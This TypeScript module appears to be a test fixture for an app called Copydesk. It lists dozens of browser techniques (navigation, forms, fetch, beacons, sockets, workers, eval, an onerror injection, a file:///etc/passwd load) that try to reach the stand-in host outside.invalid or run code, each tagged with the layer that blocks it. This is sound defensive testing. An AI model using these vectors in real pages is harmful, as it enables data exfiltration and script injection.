/** Where every way out would lead: a name that belongs to nobody. */
export const OUTSIDE = 'https://outside.invalid'

/**
 * A way in which a page, or somebody who got words of theirs into one, may try to reach the world: what is tried, and
 * the body of a function that tries it. Nothing here is of Copydesk's own making.
 */
export type WayOut = {
  readonly name: string
  readonly tries: string
  /**
   * What stops it: the wall in main, which hears of it; the content security policy, which tells the page; or the
   * engine, which does nothing at all, or says no in its own way.
   */
  readonly by: 'wall' | 'policy' | 'engine'
}

const element = (tag: string, fields: string, parent = 'body') =>
  `const it = document.createElement('${tag}'); Object.assign(it, ${fields}); document.${parent}.append(it); it.click?.()`

/** Thirty and more. Each is tried in the window itself, with all the rights its own scripts have. */
export const waysOut: readonly WayOut[] = [
  { name: 'location.href', by: 'wall', tries: `location.href = '${OUTSIDE}/href'` },
  { name: 'location.assign', by: 'wall', tries: `location.assign('${OUTSIDE}/assign')` },
  { name: 'location.replace', by: 'wall', tries: `location.replace('${OUTSIDE}/replace')` },
  { name: 'the file scheme', by: 'engine', tries: `location.href = 'file:///etc/passwd'` },
  { name: 'a data page', by: 'engine', tries: `location.href = 'data:text/html,out'` },
  { name: 'a javascript address', by: 'policy', tries: `location.href = 'javascript:window.ran = true'` },
  { name: 'another program’s scheme', by: 'engine', tries: `location.href = 'smb://outside.invalid/share'` },
  { name: 'another page of our scheme', by: 'engine', tries: `location.href = 'app://other/index.html'` },
  { name: 'window.open', by: 'wall', tries: `window.open('${OUTSIDE}/open')` },
  {
    name: 'window.open without an opener',
    by: 'wall',
    tries: `window.open('${OUTSIDE}/noopener', '_blank', 'noopener')`,
  },
  { name: 'window.open onto nothing', by: 'wall', tries: `window.open('about:blank')` },
  { name: 'a link', by: 'wall', tries: element('a', `{ href: '${OUTSIDE}/link' }`) },
  {
    name: 'a link to a new window',
    by: 'wall',
    tries: element('a', `{ href: '${OUTSIDE}/blank', target: '_blank' }`),
  },
  {
    name: 'a link that is a download',
    by: 'wall',
    tries: element('a', `{ href: '${OUTSIDE}/file', download: 'x' }`),
  },
  { name: 'a link that pings', by: 'engine', tries: element('a', `{ href: '#', ping: '${OUTSIDE}/ping' }`) },
  {
    name: 'a form that gets',
    by: 'policy',
    tries: `${element('form', `{ action: '${OUTSIDE}/get', method: 'get' }`)}; it.submit()`,
  },
  {
    name: 'a form that posts into a new window',
    by: 'policy',
    tries: `${element('form', `{ action: '${OUTSIDE}/post', method: 'post', target: '_blank' }`)}; it.submit()`,
  },
  {
    name: 'a meta refresh',
    by: 'wall',
    tries: element('meta', `{ httpEquiv: 'refresh', content: '0;url=${OUTSIDE}/refresh' }`, 'head'),
  },
  {
    name: 'a base',
    by: 'policy',
    tries: `${element('base', `{ href: '${OUTSIDE}/' }`, 'head')}; new Image().src = 'base.png'`,
  },
  { name: 'an iframe', by: 'policy', tries: element('iframe', `{ src: '${OUTSIDE}/iframe' }`) },
  {
    name: 'an iframe with a page in it',
    by: 'policy',
    tries: `const it = document.createElement('iframe'); it.srcdoc = 'x'; document.body.append(it)`,
  },
  { name: 'an embed', by: 'policy', tries: element('embed', `{ src: '${OUTSIDE}/embed' }`) },
  { name: 'an object', by: 'policy', tries: element('object', `{ data: '${OUTSIDE}/object' }`) },
  {
    name: 'a webview',
    by: 'engine',
    tries: `const it = document.createElement('webview'); it.setAttribute('src', '${OUTSIDE}/webview'); document.body.append(it)`,
  },
  { name: 'an image', by: 'policy', tries: `new Image().src = '${OUTSIDE}/image.png'` },
  {
    name: 'a background',
    by: 'engine',
    tries: `const it = document.createElement('p'); it.append('x'); it.style.position = 'fixed'; it.style.inset = '0'; it.style.backgroundImage = 'url(${OUTSIDE}/background.png)'; document.body.append(it)`,
  },
  { name: 'a video', by: 'policy', tries: element('video', `{ src: '${OUTSIDE}/video.mp4' }`) },
  { name: 'a font', by: 'policy', tries: `return new FontFace('out', 'url(${OUTSIDE}/font.woff2)').load()` },
  {
    name: 'a style sheet',
    by: 'policy',
    tries: element('link', `{ rel: 'stylesheet', href: '${OUTSIDE}/style.css' }`, 'head'),
  },
  {
    name: 'a prefetch',
    by: 'policy',
    tries: element('link', `{ rel: 'prefetch', href: '${OUTSIDE}/prefetch' }`, 'head'),
  },
  {
    name: 'a preload',
    by: 'policy',
    tries: element('link', `{ rel: 'preload', as: 'image', href: '${OUTSIDE}/preload.png' }`, 'head'),
  },
  {
    name: 'a manifest',
    by: 'policy',
    tries: element('link', `{ rel: 'manifest', href: '${OUTSIDE}/manifest.json' }`, 'head'),
  },
  { name: 'fetch', by: 'policy', tries: `return fetch('${OUTSIDE}/fetch')` },
  {
    name: 'fetch without an answer',
    by: 'policy',
    tries: `return fetch('${OUTSIDE}/no-cors', { mode: 'no-cors', keepalive: true })`,
  },
  {
    name: 'XMLHttpRequest',
    by: 'policy',
    tries: `const it = new XMLHttpRequest(); it.open('GET', '${OUTSIDE}/xhr'); it.send()`,
  },
  { name: 'a beacon', by: 'policy', tries: `navigator.sendBeacon('${OUTSIDE}/beacon', 'x')` },
  { name: 'a web socket', by: 'policy', tries: `new WebSocket('wss://outside.invalid/socket')` },
  { name: 'an event source', by: 'policy', tries: `new EventSource('${OUTSIDE}/events')` },
  {
    name: 'a script from outside',
    by: 'policy',
    tries: element('script', `{ async: true }`) + `; it.setAttribute('src', '${OUTSIDE}/script.js')`,
  },
  {
    name: 'a script in the page',
    by: 'policy',
    tries: `const it = document.createElement('script'); it.append('window.ran = true'); document.body.append(it)`,
  },
  { name: 'eval', by: 'policy', tries: `window.eval('window.ran = true')` },
  { name: 'a function from a string', by: 'policy', tries: `new Function('window.ran = true')()` },
  { name: 'a timer with a string', by: 'policy', tries: `setTimeout('window.ran = true')` },
  {
    name: 'markup from a string',
    by: 'policy',
    tries: `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = true">')`,
  },
  { name: 'a worker from outside', by: 'policy', tries: `new Worker('${OUTSIDE}/worker.js')` },
  {
    name: 'a worker from a string',
    by: 'policy',
    tries: `new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))`,
  },
  {
    name: 'a service worker',
    by: 'engine',
    tries: `return navigator.serviceWorker.register('/assets/none.js')`,
  },
  {
    name: 'a peer connection',
    by: 'engine',
    tries: `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:outside.invalid' }] }); it.createDataChannel('x'); it.onicecandidate = ({ candidate }) => { if (candidate !== null && candidate.candidate !== '') window.ran = true }; return it.createOffer().then((offer) => it.setLocalDescription(offer))`,
  },
  {
    name: 'where the machine is',
    by: 'engine',
    tries: `return new Promise((_, reject) => navigator.geolocation.getCurrentPosition(() => reject(new Error('told')), reject))`,
  },
  { name: 'the camera', by: 'engine', tries: `return navigator.mediaDevices.getUserMedia({ video: true })` },
  {
    name: 'a notice of the system',
    by: 'engine',
    tries: `return Notification.requestPermission().then((said) => { if (said !== 'granted') throw new Error(said) })`,
  },
]
